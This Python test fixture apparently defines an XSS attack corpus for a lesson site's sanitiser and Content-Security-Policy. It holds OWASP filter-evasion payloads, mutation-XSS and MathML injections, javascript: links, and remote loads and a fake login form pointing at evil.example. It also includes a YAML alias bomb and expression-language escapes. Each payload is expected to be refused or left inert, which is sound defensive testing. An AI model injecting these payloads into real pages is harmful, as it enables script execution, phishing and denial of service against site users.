"""Attack payloads a hostile contributor could put in a lesson: every vector of issue 15, plus the families of
OWASP's XSS filter-evasion cheat sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html).

Each payload names where it goes (the lesson body, a front-matter field, tracks.yml, a quiz, a chart caption,
a notebook, or a file of its own) and the words the check's message must contain. Payloads that the site
can build are built, all into one site, and loaded in Chromium (test_attack_corpus.py): a script
that runs calls ``rpCanary(id)``, and every other host is ``evil.example`` (only loopback resolves). Payloads
that can only be refused (files that are not lessons, encodings, YAML bombs) are refused before MkDocs reads
them, with the message named here.

Outcomes: ``inert`` (reported by the check; built with the checks skipped, nothing runs or loads) or
``refused`` (the check reports it and the build stops before reading the file).
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY = "rpCanary"
EVIL = "http://evil.example"


@dataclass(frozen=True)
class Payload:
    """One attack: its id (the lesson's file name), family, where it goes, its text, what the check says."""

    id: str
    family: str
    # body | title | description | subtitle | status | track | quiz | caption | notebook | file; issue 24:
    # summary | takeaways (front matter rendered as Markdown), page (a page outside any track, titled by its
    # heading), filename (a page outside any track whose file name is the text), notebook-heading (a
    # notebook's first heading) and injected (written into a built page's <body> after the build, as if the
    # sanitiser had failed: the Content-Security-Policy alone must stop it)
    place: str
    text: str
    # Words the check's problem for this lesson must contain; None: the check may stay silent (the text is
    # shown as text, which a strict build accepts), and the page must be inert all the same.
    message: str | None
    outcome: str = "inert"  # or "refused"

    def code(self) -> str:
        """The payload with the canary call for this payload filled in."""
        return self.text.replace("CANARY", f"{CANARY}('{self.id}')").replace("EVIL", EVIL)


TAG = "not a tag lessons may use"
HANDLER = "inline event handler"
SCHEME = "javascript: scheme"
LOAD = "loads from another host"
ATTRIBUTE = "not an attribute lessons may use"
PLAIN = "is plain text"

MATH = "not allowed in formulas"
NAME = "characters other than letters"  # a file name: refused before MkDocs reads it (untrusted-files)
OVERLAY = "position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999"

ISSUE_24_FORMULAS: tuple[Payload, ...] = (
    Payload("math-text-script", "formula: \\text", "body", "$\\text{<script>CANARY</script>}$", TAG),
    Payload("math-text-img", "formula: \\text", "body", "$\\text{<img src=x onerror=CANARY>}$", HANDLER),
    Payload(
        "math-text-meta",
        "formula: \\text",
        "body",
        '$$\\text{<meta http-equiv="refresh" content="0;url=EVIL/">}$$',
        TAG,
    ),
    Payload(
        "math-text-form",
        "formula: \\text",
        "body",
        '$\\text{<form action="EVIL/"><input type="password" name="p"><button>Log in</button></form>}$',
        TAG,
    ),
    Payload(
        "math-text-entities", "formula: \\text", "body", "$\\text{&lt;img src=x onerror=CANARY&gt;}$", None
    ),
    Payload("math-style-overlay", "formula: \\style", "body", f"$\\style{{{OVERLAY}}}{{x}}$", MATH),
    Payload(
        "math-style-display",
        "formula: \\style",
        "body",
        f"$$\\style{{{OVERLAY}}}{{\\frac{{a}}{{b}}}}$$",
        MATH,
    ),
    Payload("math-href-script", "formula: \\href", "body", "$\\href{javascript:CANARY}{x}$", MATH),
    Payload("math-href-evil", "formula: \\href", "body", "$\\href{EVIL/}{\\text{log in}}$", MATH),
    Payload("math-class", "formula: \\class", "body", "$\\class{md-header md-header--shadow}{x}$", MATH),
    Payload("math-unicode", "formula: \\unicode", "body", "$\\unicode{x3C}script\\unicode{x3E}$", None),
    Payload(
        "math-operatorname",
        "formula: \\operatorname",
        "body",
        "$\\operatorname{<img src=x onerror=CANARY>}$",
        HANDLER,
    ),
    Payload("math-mathrm-svg", "formula: \\mathrm", "body", "$\\mathrm{<svg onload=CANARY>}$", TAG),
    Payload(
        "mathml-mtext-script",
        "MathML injection",
        "body",
        "<math><mtext><script>CANARY</script></mtext></math>",
        TAG,
    ),
    Payload(
        "mathml-annotation-xml",
        "MathML injection",
        "body",
        '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=CANARY>'
        "</annotation-xml></semantics></math>",
        TAG,
    ),
    Payload(
        "mathml-mglyph-mxss",
        "MathML injection",
        "body",
        "<math><mtext><table><mglyph><style><img src=x onerror=CANARY></style></mglyph></table>"
        "</mtext></math>",
        TAG,
    ),
    Payload(
        "math-summary", "formula in a summary", "summary", "$\\text{<img src=x onerror=CANARY>}$", HANDLER
    ),
    Payload("math-summary-style", "formula in a summary", "summary", f"$\\style{{{OVERLAY}}}{{x}}$", MATH),
    Payload("math-takeaway", "formula in a takeaway", "takeaways", "$\\text{<script>CANARY</script>}$", TAG),
    Payload("math-takeaway-href", "formula in a takeaway", "takeaways", "$\\href{EVIL/}{x}$", MATH),
)

ISSUE_24_PARSER_DIFFERENTIALS: tuple[Payload, ...] = (
    Payload("comment-abrupt", "comment <!-->", "body", '<!--><img src=x onerror="CANARY">-->', HANDLER),
    Payload(
        "comment-abrupt-dash", "comment <!--->", "body", '<!---><img src=x onerror="CANARY">-->', HANDLER
    ),
    Payload("comment-bang", "comment --!>", "body", '<!-- a --!><img src=x onerror="CANARY">-->', HANDLER),
    Payload("cdata", "CDATA in HTML", "body", '<![CDATA[><img src=x onerror="CANARY">]]>', HANDLER),
    Payload("processing-instruction", "<?...>", "body", '<?x ><img src=x onerror="CANARY">?>', HANDLER),
    Payload(
        "code-span-paragraphs",
        "code span across paragraphs",
        "body",
        '`a\n\n<img src=x onerror="CANARY">\n\nb`',
        HANDLER,
    ),
    Payload(
        "unclosed-fence", "unclosed fence", "body", 'Text.\n\n```\n<img src=x onerror="CANARY">\n', HANDLER
    ),
    Payload(
        "svg-style-mxss",
        "mutation XSS (svg style)",
        "body",
        '<svg><style><img src=x onerror="CANARY"></style></svg>',
        TAG,
    ),
)

ISSUE_24_TITLES: tuple[Payload, ...] = (
    Payload("heading-title", "page titled by its heading", "page", '# <img src=x onerror="CANARY">', HANDLER),
    Payload(
        "heading-entities",
        "page titled by its heading",
        "page",
        "# &lt;/title&gt;&lt;script&gt;CANARY&lt;/script&gt;",
        None,
    ),
    Payload(
        "filename-title", "file name as a title", "filename", '<img src=x onerror="CANARY">', NAME, "refused"
    ),
    Payload(
        "filename-entities", "file name as a title", "filename", "&lt;svg onload=CANARY&gt;", NAME, "refused"
    ),
    Payload(
        "filename-quote",
        "file name in an attribute",
        "filename",
        'x" onmouseover="CANARY" y="',
        NAME,
        "refused",
    ),
    Payload("notebook-heading", "notebook heading", "notebook-heading", '<img src=x onerror="CANARY">', None),
    Payload(
        "notebook-heading-entities",
        "notebook heading",
        "notebook-heading",
        "&lt;/title&gt;&lt;script&gt;CANARY&lt;/script&gt;",
        None,
    ),
    Payload("summary-html", "summary on the home page", "summary", '<img src=x onerror="CANARY">', HANDLER),
    Payload(
        "summary-meta",
        "summary on the home page",
        "summary",
        '<meta http-equiv="refresh" content="0;url=EVIL/">',
        TAG,
    ),
    Payload(
        "summary-entities", "summary on the home page", "summary", '&lt;img src=x onerror="CANARY"&gt;', None
    ),
    Payload("takeaway-html", "takeaway", "takeaways", '<img src=x onerror="CANARY">', HANDLER),
    Payload("takeaway-entities", "takeaway", "takeaways", "&lt;script&gt;CANARY&lt;/script&gt;", None),
    Payload(
        "title-entities",
        "front-matter title decoded twice",
        "title",
        "&lt;/title&gt;&lt;script&gt;CANARY",
        None,
    ),
    Payload(
        "track-entities",
        "tracks.yml title decoded twice",
        "track",
        '&lt;img src=x onerror="CANARY"&gt;',
        None,
    ),
)

ISSUE_24_POLICY: tuple[Payload, ...] = (
    Payload("csp-inline-script", "script past the sanitiser", "injected", "<script>CANARY</script>", None),
    Payload(
        "csp-theme-lookalike",
        "hash collision attempt: a theme script with a call added",
        "injected",
        '<script>__md_scope=new URL(".",location);CANARY</script>',
        None,
    ),
    Payload("csp-handler", "handler past the sanitiser", "injected", "<img src=x onerror=CANARY>", None),
    Payload(
        "csp-js-url",
        "javascript: URL past the sanitiser",
        "injected",
        '<a id="rp-x" href="javascript:CANARY">x</a>',
        None,
    ),
    Payload(
        "csp-srcdoc",
        "srcdoc past the sanitiser",
        "injected",
        '<iframe srcdoc="<script>parent.CANARY</script>"></iframe>',
        None,
    ),
    Payload(
        "csp-foreign-object",
        "SVG foreignObject past the sanitiser",
        "injected",
        "<svg><foreignObject><img src=x onerror=CANARY></foreignObject></svg>",
        None,
    ),
    Payload(
        "csp-base",
        "<base> past the sanitiser",
        "injected",
        '<base href="EVIL/"><script src="x.js"></script>',
        None,
    ),
    Payload(
        "csp-meta-policy",
        "<meta> policy past the sanitiser",
        "injected",
        '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'
        "<script>CANARY</script>",
        None,
    ),
    Payload(
        "csp-remote-script",
        "remote script past the sanitiser",
        "injected",
        '<script src="EVIL/x.js"></script>',
        None,
    ),
    Payload(
        "meta-policy",
        "<meta http-equiv> in a lesson",
        "body",
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        TAG,
    ),
    Payload("base-target", "<base> in a lesson", "body", '<base target="_top" href="//evil.example/">', TAG),
    Payload(
        "srcdoc-entities",
        "srcdoc with entities",
        "body",
        '<iframe srcdoc="&lt;script&gt;parent.CANARY&lt;/script&gt;"></iframe>',
        TAG,
    ),
    Payload(
        "foreign-object",
        "SVG foreignObject",
        "body",
        '<svg><foreignObject><iframe srcdoc="<script>CANARY</script>"></iframe></foreignObject></svg>',
        TAG,
    ),
    Payload(
        "animate-href",
        "SVG animate href",
        "body",
        '<svg><a><animate attributeName="href" to="javascript:CANARY" begin="0s"/>'
        '<text y="20">x</text></a></svg>',
        TAG,
    ),
    Payload(
        "set-href",
        "SVG set href",
        "body",
        '<svg><a><set attributeName="href" to="EVIL/"/><text y="20">x</text></a></svg>',
        TAG,
    ),
    Payload("script-nonce", "script with a guessed nonce", "body", '<script nonce="rp">CANARY</script>', TAG),
)

PAYLOADS: tuple[Payload, ...] = (
    # --- issue 15: front matter and tracks printed into <head> and the navigation
    Payload("fm-title", "front matter into <head>", "title", "<img src=x onerror=CANARY>", PLAIN),
    Payload("fm-description", "front matter into <head>", "description", '"><script>CANARY</script>', PLAIN),
    Payload("fm-subtitle", "front matter into <head>", "subtitle", "<svg onload=CANARY>", PLAIN),
    Payload("fm-status", "front matter into <head>", "status", "<img src=x onerror=CANARY>", PLAIN),
    Payload("track-title", "tracks.yml into the navigation", "track", "<img src=x onerror=CANARY>", PLAIN),
    # --- issue 15: the body's deny-list bypasses
    Payload("script-tag", "script tag", "body", "<script>CANARY</script>", TAG),
    Payload("img-onerror", "event handler", "body", "<img src=x onerror=CANARY>", HANDLER),
    Payload("upper-handler", "case (ONERROR)", "body", "<IMG SRC=x ONERROR=CANARY>", HANDLER),
    Payload(
        "gt-in-value", "'>' inside an attribute", "body", '<img alt="a>b" src=x onerror="CANARY">', HANDLER
    ),
    Payload("attr-list-click", "attribute list", "body", 'Hover me\n{: onmouseover="CANARY" }', HANDLER),
    Payload("attr-list-inline", "attribute list", "body", '**bold**{ onclick="CANARY" }', HANDLER),
    Payload(
        "entity-decimal",
        "entity-encoded javascript:",
        "body",
        '<a href="&#106;avascript:CANARY">a</a>',
        SCHEME,
    ),
    Payload(
        "entity-tab", "entity-encoded javascript:", "body", '<a href="jav&#x09;ascript:CANARY">a</a>', SCHEME
    ),
    Payload(
        "entity-colon",
        "entity-encoded javascript:",
        "body",
        '<a href="javascript&colon;CANARY">a</a>',
        SCHEME,
    ),
    Payload("md-js-link", "javascript: link", "body", "[a](javascript:CANARY)", SCHEME),
    Payload("md-entity-link", "entity-encoded javascript:", "body", "[a](&#106;avascript:CANARY)", SCHEME),
    Payload(
        "svg-animate",
        "SVG animate",
        "body",
        '<svg><a><animate attributeName="href" values="javascript:CANARY"/><text y="20">x</text></a></svg>',
        TAG,
    ),
    Payload(
        "iframe-srcdoc", "iframe srcdoc", "body", '<iframe srcdoc="<script>CANARY</script>"></iframe>', TAG
    ),
    Payload(
        "iframe-data", "data: frame", "body", '<iframe src="data:text/html,<script>CANARY</script>">', TAG
    ),
    Payload(
        "object-data", "data: object", "body", '<object data="data:text/html,<script>CANARY</script>">', TAG
    ),
    Payload("embed-data", "data: embed", "body", '<embed src="data:text/html,<script>CANARY</script>">', TAG),
    # --- issue 15: loads from another host that the static scanner missed
    Payload("base-href", "<base href>", "body", '<base href="EVIL/">', TAG),
    Payload("backslash-host", "\\\\host", "body", '<img src="\\\\evil.example\\x.png">', LOAD),
    Payload("https-no-slashes", "https:host", "body", '<img src="https:evil.example/x.png">', LOAD),
    Payload(
        "css-image-set",
        "CSS image-set",
        "body",
        "<div style=\"background-image: image-set('EVIL/x.png' 1x)\">x</div>",
        ATTRIBUTE,
    ),
    Payload(
        "svg-feimage",
        "SVG feImage",
        "body",
        '<svg><filter id="f"><feImage href="EVIL/x.png"/></filter><rect filter="url(#f)" width="9"/></svg>',
        TAG,
    ),
    Payload(
        "table-background",
        "<table background>",
        "body",
        '<table background="EVIL/x.png"><tr><td>x</td></tr></table>',
        ATTRIBUTE,
    ),
    Payload(
        "meta-refresh", "<meta refresh>", "body", '<meta http-equiv="refresh" content="0;url=EVIL/">', TAG
    ),
    # --- issue 15: our own scripts as gadgets
    Payload(
        "chart-gadget",
        "chart runtime URL in markup",
        "body",
        '<figure class="rp-chart" data-rp-chart="roofline" data-rp-spec="0" data-rp-runtime="EVIL/x.js">'
        '<div class="rp-chart__view" tabindex="0">hover</div></figure>',
        "block configuration",
    ),
    Payload(
        "widget-gadget",
        "Pyodide URL in markup",
        "body",
        '<section class="rp-widget" data-widget="prefill-decode" data-pyodide="EVIL/" '
        'data-package="EVIL/p.zip" data-defaults="{}"><form class="rp-widget__controls"></form></section>',
        "block configuration",
    ),
    Payload(
        "quiz-js-link",
        "javascript: link in quiz text",
        "quiz",
        "see [the answer](javascript:CANARY)",
        SCHEME,
    ),
    Payload("chart-caption", "markup in a chart caption", "caption", "<img src=x onerror=CANARY>", PLAIN),
    # --- issue 15: the expression language
    Payload(
        "expr-globals",
        "expression reads globals",
        "body",
        '{{ min("{0.__init__.__globals__}", "~").format(Scenario()) | number }}',
        "attributes of a str",
    ),
    Payload(
        "expr-power-tower", "expression hang", "body", "{{ (((10**100)**100)**100)**100 | number }}", "2**"
    ),
    Payload(
        "expr-string-flood", "expression flood", "body", '{{ min("a" * 10**8, "b") | number }}', "numbers"
    ),
    # --- OWASP filter-evasion families
    Payload("img-js-src", "OWASP: javascript: in img src", "body", "<IMG SRC=javascript:CANARY>", LOAD),
    Payload(
        "fromcharcode",
        "OWASP: fromCharCode",
        "body",
        "<IMG SRC=javascript:CANARY(String.fromCharCode(88))>",
        LOAD,
    ),
    Payload(
        "newline-scheme", "OWASP: embedded newline", "body", '<a href="jav&#x0A;ascript:CANARY">a</a>', SCHEME
    ),
    Payload(
        "cr-scheme",
        "OWASP: embedded carriage return",
        "body",
        '<a href="jav&#x0D;ascript:CANARY">a</a>',
        SCHEME,
    ),
    Payload(
        "leading-space",
        "OWASP: spaces and meta chars",
        "body",
        '<a href=" &#14;  javascript:CANARY">a</a>',
        SCHEME,
    ),
    Payload(
        "script-slash",
        "OWASP: non-alpha after tag name",
        "body",
        '<SCRIPT/XSS SRC="EVIL/x.js"></SCRIPT>',
        TAG,
    ),
    Payload("extra-brackets", "OWASP: extraneous open brackets", "body", "<<SCRIPT>CANARY;//<</SCRIPT>", TAG),
    Payload("end-title", "OWASP: end title tag", "body", "</TITLE><SCRIPT>CANARY</SCRIPT>", TAG),
    Payload("body-onload", "OWASP: body onload", "body", "<BODY ONLOAD=CANARY>", TAG),
    Payload(
        "details-ontoggle",
        "handler that fires alone",
        "body",
        "<details open ontoggle=CANARY>x</details>",
        HANDLER,
    ),
    Payload("input-autofocus", "OWASP: autofocus handler", "body", "<input autofocus onfocus=CANARY>", TAG),
    Payload("svg-script", "OWASP: SVG script", "body", "<svg><script>CANARY</script></svg>", TAG),
    Payload(
        "noscript-mxss",
        "mutation XSS (noscript)",
        "body",
        '<noscript><p title="</noscript><img src=x onerror=CANARY>">',
        TAG,
    ),
    Payload(
        "comment-breakout",
        "OWASP: comment breakout",
        "body",
        '<p title="<!--"><img src=x onerror=CANARY></p>',
        HANDLER,
    ),
    Payload("style-import", "OWASP: style @import", "body", "<style>@import url(EVIL/x.css);</style>", TAG),
    Payload(
        "link-stylesheet",
        "OWASP: remote stylesheet",
        "body",
        '<link rel="stylesheet" href="EVIL/x.css">',
        TAG,
    ),
    Payload(
        "style-expression",
        "OWASP: style expression",
        "body",
        '<div style="width: expression(CANARY)">x</div>',
        ATTRIBUTE,
    ),
    Payload(
        "form-action", "form to another host", "body", '<form action="EVIL/"><button>go</button></form>', TAG
    ),
    Payload(
        "video-source", "OWASP: media onerror", "body", "<video><source src=x onerror=CANARY></video>", TAG
    ),
    Payload("svg-use", "SVG use of a remote file", "body", '<svg><use href="EVIL/x.svg#a"/></svg>', TAG),
    Payload("img-srcset", "img srcset", "body", '<img srcset="EVIL/x.png 1x" src="a.png">', ATTRIBUTE),
    Payload("md-remote-image", "Markdown image from another host", "body", "![x](EVIL/x.png)", LOAD),
    Payload("data-image", "data: image", "body", '<img src="data:image/svg+xml,<svg onload=CANARY>">', LOAD),
    Payload("vbscript", "OWASP: vbscript:", "body", '<a href="vbscript:msgbox(1)">a</a>', "vbscript: scheme"),
    Payload("math-href", "MathML href", "body", '<math href="javascript:CANARY"><mi>x</mi></math>', TAG),
    Payload(
        "reserved-id",
        "DOM clobbering of Material's config",
        "body",
        '<p id="__config">{"base":"EVIL"}</p>',
        "reserved",
    ),
    # --- issue 15: notebooks (built; their outputs are sanitised and the kernel sees no secret)
    Payload(
        "notebook-output",
        "notebook HTML output and environment",
        "notebook",
        "<img src=x onerror=CANARY>",
        "",
    ),
    # --- refused before MkDocs reads them
    Payload(
        "file-html",
        "HTML file under docs/",
        "file",
        "<script>CANARY</script>",
        "not a kind of file",
        "refused",
    ),
    Payload("file-js", "script file under docs/", "file", "CANARY", "not a kind of file", "refused"),
    Payload(
        "file-upper-md",
        "upper-case .MD under docs/",
        "file",
        "<script>CANARY</script>",
        "not a kind of file",
        "refused",
    ),
    Payload(
        "file-svg",
        "SVG file under docs/",
        "file",
        "<svg onload=CANARY></svg>",
        "not a kind of file",
        "refused",
    ),
    Payload("yaml-alias-bomb", "YAML alias bomb", "file", "", "aliases", "refused"),
    Payload("non-utf8", "non-UTF-8 lesson", "file", "", "not UTF-8", "refused"),
    Payload("bom", "byte-order mark", "file", "", "byte-order mark", "refused"),
    Payload("oversized", "lesson over the size limit", "file", "", "at most", "refused"),
    # --- issue 24, family 1: formulas (the converter's output went into the page unsanitised)
    *ISSUE_24_FORMULAS,
    # --- issue 24, family 1: where Python's HTML parser, Markdown and Chromium disagree
    *ISSUE_24_PARSER_DIFFERENTIALS,
    # --- issue 24, family 2: titles, summaries, takeaways and file names decoded twice
    *ISSUE_24_TITLES,
    # --- issue 24, family 3: what only the Content-Security-Policy can stop
    *ISSUE_24_POLICY,
)

REFUSED_FILES: dict[str, str] = {
    "file-html": "corpus/file-html.html",
    "file-js": "corpus/file-js.js",
    "file-upper-md": "corpus/file-upper-md.MD",
    "file-svg": "corpus/file-svg.svg",
    "yaml-alias-bomb": "corpus/yaml-alias-bomb.md",
    "non-utf8": "corpus/non-utf8.md",
    "bom": "corpus/bom.md",
    "oversized": "corpus/oversized.md",
}


# A file name that would become a page's title and address: refused by name, so never titled.
REFUSED_FILES.update({p.id: f"pages/{p.code()}.md" for p in PAYLOADS if p.place == "filename"})


def refused_file_bytes(payload: Payload) -> bytes:
    """The content of a payload that is a file of its own."""
    if payload.place == "filename":
        return b"A page with no heading.\n"
    front = "---\ntitle: T\nsummary: S.\ntrack: corpus\norder: 900\ntakeaways: [One.]\n---\n"
    if payload.id == "yaml-alias-bomb":
        levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
        levels += [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
        return ("---\n" + "\n".join(levels) + "\n---\nBody.\n").encode()
    if payload.id == "non-utf8":
        return (front + "Caf\xe9 au lait.\n").encode("latin-1")
    if payload.id == "bom":
        return b"\xef\xbb\xbf" + front.encode()
    if payload.id == "oversized":
        return (front + ("A sentence of filler prose. " * 12_000)).encode()
    return payload.code().encode()
